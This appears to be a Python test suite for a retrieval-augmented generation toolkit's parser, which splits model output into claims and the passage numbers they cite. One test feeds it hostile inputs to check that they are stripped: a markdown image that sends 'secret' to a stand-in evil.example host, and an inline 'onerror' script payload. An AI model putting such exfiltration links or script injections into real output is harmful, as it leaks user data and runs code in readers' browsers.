"""What a model wrote is read as sentences and claims; nothing that it writes breaks the reading."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragkit.generate.marker import Claim, claims


def read(text: str, passages: int = 5) -> list[tuple[str, tuple[int, ...]]]:
    return [(claim.text, claim.passages) for claim in claims(text, passages)]


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("Tea is hot [1].", [("Tea is hot.", (1,))]),
        ("Tea is hot. [1] It is wet.[2][3]", [("Tea is hot.", (1,)), ("It is wet.", (2, 3))]),
        ("[1] Tea is hot. Wet.", [("Tea is hot.", (1,)), ("Wet.", ())]),
        ("Tea [2] is hot [1], very [2].", [("Tea is hot, very.", (2, 1))]),
        ("Tea is hot.\n[1]", [("Tea is hot.", (1,))]),
        ("Tea is hot. [1]\n\nIt is wet. [2]", [("Tea is hot.", (1,)), ("It is wet.", (2,))]),
        ("[1]", []),
        ("", []),
        ("  \n\t\n", []),
    ],
)
def test_a_marker_belongs_to_its_sentence(text: str, wanted: list[object]) -> None:
    assert read(text) == wanted


@pytest.mark.parametrize(
    ("marker", "passages"),
    [
        ("[1, 2]", (1, 2)),
        ("[1;3]", (1, 3)),
        ("[1-3]", (1, 2, 3)),
        ("[1\u20133]", (1, 2, 3)),
        ("[1 and 4]", (1, 4)),
        ("[ 2 ]", (2,)),
        ("[^2]", (2,)),
        ("[Source 2]", (2,)),
        ("[source: 2]", (2,)),
        ("[Passage 1, passage 3]", (1, 3)),
        ("[doc #4]", (4,)),
        ("\u30101\u2020source\u3011", (1,)),
        ("\u30103:0\u2020leave.pdf\u3011", (3,)),
        ("\uff3b2\uff3d", (2,)),
        ("(1)", (1,)),
        ("(see passages 1 and 2)", (1, 2)),
        ("(source 5)", (5,)),
        ("[0]", ()),
        ("[99]", ()),
        ("[1, 99]", (1,)),
        ("[1-99]", (1,)),
        ("(source 9)", ()),
        ("[1][99](2)", (1, 2)),
        ("[5-1]", (5, 1)),
    ],
)
def test_every_form_of_marker_is_taken_out(marker: str, passages: tuple[int, ...]) -> None:
    assert read(f"Tea is hot {marker}.") == [("Tea is hot.", passages)]
    assert read(f"Tea is hot. {marker}") == [("Tea is hot.", passages)]


@pytest.mark.parametrize(
    "text",
    [
        "Leave is thirty (30) days.",
        "See clause 4(1).",
        "The case [2019] holds.",
        "He said so [sic].",
        "It costs 5 euro (VAT excluded).",
        "Call (020) 7946 0958 now.",
        "Use `list[1]` here.",
        "The years (2019) and (2020) count.",
        "Dr. Smith, e.g. No. 5, left at 5 p.m. today.",
    ],
)
def test_what_is_no_marker_stays(text: str) -> None:
    assert read(text) == [(text, ())]


def test_lists_headings_rules_and_code_are_told_apart() -> None:
    text = (
        "### Steps\n\n**Do this:** [1]\n1. Fill it. [2]\n2) Press `a[1]`. [3]\n- Wait\n"
        "  * Pour [4]\n---\n> Quoted words. [5]\n```python\nx[1] = 2\n\ny = 3\n```\n[1]\n"
    )
    assert read(text) == [
        ("Do this:", (1,)),
        ("Fill it.", (2,)),
        ("Press `a[1]`.", (3,)),
        ("Wait", ()),
        ("Pour", (4,)),
        ("Quoted words.", (5,)),
        ("x[1] = 2\n\ny = 3", (1,)),
    ]


def test_code_without_an_end_is_kept() -> None:
    assert read("```\nx = 1") == [("x = 1", ())]


def test_links_images_tags_and_thoughts_are_dropped() -> None:
    text = (
        "<think>The user [1] wants\ntea.</think>Tea ![x](http://evil.example/?q=secret) is "
        "[hot](https://evil.example/a) <img src=x onerror=alert(1)>[2].<!-- hidden -->"
    )
    assert read(text) == [("Tea x is hot.", (2,))]
    assert read("<think>never ends [1]") == []


@given(st.text(max_size=300), st.integers(0, 12))
def test_any_text_is_read_and_names_only_passages_there_were(text: str, passages: int) -> None:
    for claim in claims(text, passages):
        assert claim.text.strip()
        assert all(1 <= number <= passages for number in claim.passages)
        assert len(set(claim.passages)) == len(claim.passages)


@given(
    st.lists(
        st.tuples(
            st.from_regex(r"\A[A-Z][a-z]{3,9} is [a-z]{3,9}\.\Z"),
            st.sets(st.integers(1, 9), max_size=3),
        ),
        min_size=1,
        max_size=8,
    )
)
def test_sentences_with_markers_come_back(said: list[tuple[str, set[int]]]) -> None:
    text = " ".join(f"{one} {''.join(f'[{n}]' for n in sorted(named))}" for one, named in said)
    wanted = [Claim(text=one, passages=tuple(sorted(named))) for one, named in said]
    assert claims(text, 9) == wanted


@given(st.text(alphabet="[]()123, -\u3010\u3011`*", max_size=200))
def test_nothing_that_is_left_is_a_plain_marker(text: str) -> None:
    for claim in claims(text, 3):
        outside = re.sub(r"`[^`\n]+`", "", claim.text)
        assert "`" in claim.text or not re.search(r"(?<![\w\[(`])\[[123]\](?![\])(`])", outside)
